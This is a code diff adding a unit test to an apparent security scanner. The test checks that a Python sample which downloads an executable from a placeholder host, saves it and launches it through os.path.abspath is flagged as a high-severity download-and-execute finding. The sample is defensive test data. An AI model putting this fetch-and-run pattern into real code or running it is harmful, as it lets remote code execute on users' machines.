@@ -390,3 +390,15 @@ test('a function that downloads to a path in a variable and starts that path run
     'the file is handed to a program, not run',
   );
 });
+
+test('a downloaded executable started through os.path.abspath is still the file written', () => {
+  const source = [
+    'import os, requests, subprocess',
+    'def fetch():',
+    '    data = requests.get("https://files.example.invalid/tool.exe").content',
+    '    with open("tool.exe", "wb") as f:',
+    '        f.write(data)',
+    '    subprocess.Popen([os.path.abspath("tool.exe")])',
+  ].join('\n');
+  assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
+});
